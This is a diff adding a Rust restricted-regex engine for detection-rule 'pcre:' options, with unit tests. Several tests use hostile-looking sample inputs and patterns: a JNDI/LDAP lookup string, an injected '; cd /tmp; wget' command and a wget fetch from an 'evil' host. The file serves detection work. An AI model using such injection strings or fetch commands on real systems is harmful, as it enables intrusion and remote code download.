@@ -1,0 +1,263 @@
+//! A restricted regex engine for rule `pcre:` options.
+//!
+//! Supported syntax (enough for the vetted ruleset, nothing more):
+//! literal bytes, `.` (any byte), `*` (zero-or-more of previous atom),
+//! `+` (one-or-more), `?` (optional), `\` escapes, and the `i` flag
+//! (case-insensitive). Matching is unanchored substring search, like PCRE
+//! without `^`. Backtracking depth is linear in pattern length — patterns
+//! are trusted (they ship with the crate), inputs are not.
+
+/// A compiled restricted-PCRE pattern.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PcreLite {
+    atoms: Vec<(Atom, Repeat)>,
+    nocase: bool,
+    source: String,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Atom {
+    Literal(u8),
+    Any,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Repeat {
+    One,
+    ZeroOrMore,
+    OneOrMore,
+    ZeroOrOne,
+}
+
+/// Errors from pattern compilation.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PcreError {
+    /// `/pattern/flags` framing missing.
+    BadFraming,
+    /// Unknown flag character.
+    UnknownFlag(char),
+    /// Quantifier with nothing to repeat.
+    DanglingQuantifier,
+    /// Trailing backslash.
+    TrailingEscape,
+}
+
+impl std::fmt::Display for PcreError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            PcreError::BadFraming => write!(f, "pattern must be framed as /pattern/flags"),
+            PcreError::UnknownFlag(c) => write!(f, "unknown flag '{c}'"),
+            PcreError::DanglingQuantifier => write!(f, "quantifier with nothing to repeat"),
+            PcreError::TrailingEscape => write!(f, "trailing backslash"),
+        }
+    }
+}
+
+impl std::error::Error for PcreError {}
+
+impl PcreLite {
+    /// Compile a `/pattern/flags` string.
+    pub fn compile(framed: &str) -> Result<PcreLite, PcreError> {
+        let inner = framed.strip_prefix('/').ok_or(PcreError::BadFraming)?;
+        let slash = inner.rfind('/').ok_or(PcreError::BadFraming)?;
+        let (pattern, flags) = inner.split_at(slash);
+        let flags = &flags[1..];
+        let mut nocase = false;
+        for c in flags.chars() {
+            match c {
+                'i' => nocase = true,
+                's' => {} // `.` already matches everything, incl. newline
+                other => return Err(PcreError::UnknownFlag(other)),
+            }
+        }
+
+        let bytes = pattern.as_bytes();
+        let mut atoms: Vec<(Atom, Repeat)> = Vec::new();
+        let mut i = 0;
+        while i < bytes.len() {
+            match bytes[i] {
+                b'\\' => {
+                    let next = *bytes.get(i + 1).ok_or(PcreError::TrailingEscape)?;
+                    let lit = match next {
+                        b'n' => b'\n',
+                        b'r' => b'\r',
+                        b't' => b'\t',
+                        other => other,
+                    };
+                    atoms.push((Atom::Literal(lit), Repeat::One));
+                    i += 2;
+                }
+                b'.' => {
+                    atoms.push((Atom::Any, Repeat::One));
+                    i += 1;
+                }
+                q @ (b'*' | b'+' | b'?') => {
+                    let last = atoms.last_mut().ok_or(PcreError::DanglingQuantifier)?;
+                    if last.1 != Repeat::One {
+                        return Err(PcreError::DanglingQuantifier);
+                    }
+                    last.1 = match q {
+                        b'*' => Repeat::ZeroOrMore,
+                        b'+' => Repeat::OneOrMore,
+                        _ => Repeat::ZeroOrOne,
+                    };
+                    i += 1;
+                }
+                lit => {
+                    atoms.push((Atom::Literal(lit), Repeat::One));
+                    i += 1;
+                }
+            }
+        }
+        Ok(PcreLite {
+            atoms,
+            nocase,
+            source: framed.to_string(),
+        })
+    }
+
+    /// The original `/pattern/flags` text.
+    pub fn source(&self) -> &str {
+        &self.source
+    }
+
+    /// Unanchored match: does the pattern occur anywhere in `haystack`?
+    pub fn is_match(&self, haystack: &[u8]) -> bool {
+        if self.atoms.is_empty() {
+            return true;
+        }
+        (0..=haystack.len()).any(|start| self.match_at(haystack, start, 0))
+    }
+
+    fn byte_matches(&self, atom: Atom, b: u8) -> bool {
+        match atom {
+            Atom::Any => true,
+            Atom::Literal(l) => {
+                if self.nocase {
+                    l.eq_ignore_ascii_case(&b)
+                } else {
+                    l == b
+                }
+            }
+        }
+    }
+
+    fn match_at(&self, hay: &[u8], mut pos: usize, atom_idx: usize) -> bool {
+        let mut idx = atom_idx;
+        while idx < self.atoms.len() {
+            let (atom, rep) = self.atoms[idx];
+            match rep {
+                Repeat::One => {
+                    if pos < hay.len() && self.byte_matches(atom, hay[pos]) {
+                        pos += 1;
+                        idx += 1;
+                    } else {
+                        return false;
+                    }
+                }
+                Repeat::ZeroOrOne => {
+                    if pos < hay.len()
+                        && self.byte_matches(atom, hay[pos])
+                        && self.match_at(hay, pos + 1, idx + 1)
+                    {
+                        return true;
+                    }
+                    idx += 1;
+                }
+                Repeat::ZeroOrMore | Repeat::OneOrMore => {
+                    let min = if rep == Repeat::OneOrMore { 1 } else { 0 };
+                    // Greedy with backtracking: count the maximal run, then
+                    // retreat until the tail matches.
+                    let mut run = 0;
+                    while pos + run < hay.len() && self.byte_matches(atom, hay[pos + run]) {
+                        run += 1;
+                    }
+                    while run + 1 > min {
+                        if self.match_at(hay, pos + run, idx + 1) {
+                            return true;
+                        }
+                        if run == min {
+                            return false;
+                        }
+                        run -= 1;
+                    }
+                    return false;
+                }
+            }
+        }
+        true
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn m(pat: &str, hay: &[u8]) -> bool {
+        PcreLite::compile(pat).unwrap().is_match(hay)
+    }
+
+    #[test]
+    fn literal_substring() {
+        assert!(m("/jndi/", b"${jndi:ldap://x}"));
+        assert!(!m("/jndi/", b"plain text"));
+    }
+
+    #[test]
+    fn case_flag() {
+        assert!(m("/jndi/i", b"${JnDi:ldap}"));
+        assert!(!m("/jndi/", b"${JNDI:ldap}"));
+    }
+
+    #[test]
+    fn dot_and_star() {
+        assert!(m("/cd .tmp/", b"; cd /tmp; wget x"));
+        assert!(m("/wget.*http/", b"wget -q http://evil"));
+        assert!(!m("/wget.*http/", b"http then wget"));
+    }
+
+    #[test]
+    fn plus_and_question() {
+        assert!(m("/a+b/", b"xxaaab"));
+        assert!(!m("/a+b/", b"xxb"));
+        assert!(m("/https?:/", b"http://x"));
+        assert!(m("/https?:/", b"https://x"));
+    }
+
+    #[test]
+    fn escapes() {
+        assert!(m("/a\\.b/", b"a.b"));
+        assert!(!m("/a\\.b/", b"axb"));
+        assert!(m("/end\\r\\n/", b"end\r\n"));
+        assert!(m("/c\\*d/", b"c*d"));
+    }
+
+    #[test]
+    fn empty_pattern_matches_everything() {
+        assert!(m("//", b""));
+        assert!(m("//", b"anything"));
+    }
+
+    #[test]
+    fn compile_errors() {
+        assert_eq!(PcreLite::compile("nope"), Err(PcreError::BadFraming));
+        assert_eq!(PcreLite::compile("/a/x"), Err(PcreError::UnknownFlag('x')));
+        assert_eq!(
+            PcreLite::compile("/*a/"),
+            Err(PcreError::DanglingQuantifier)
+        );
+        assert_eq!(
+            PcreLite::compile("/a**/"),
+            Err(PcreError::DanglingQuantifier)
+        );
+        assert_eq!(PcreLite::compile("/a\\/"), Err(PcreError::TrailingEscape));
+    }
+
+    #[test]
+    fn backtracking_star_before_literal() {
+        // `.*` must backtrack to let the tail match.
+        assert!(m("/GET .* HTTP/", b"GET /a/b/c HTTP/1.1"));
+        assert!(m("/a.*a/", b"abca"));
+        assert!(!m("/a.*a/", b"abc"));
+    }
+}
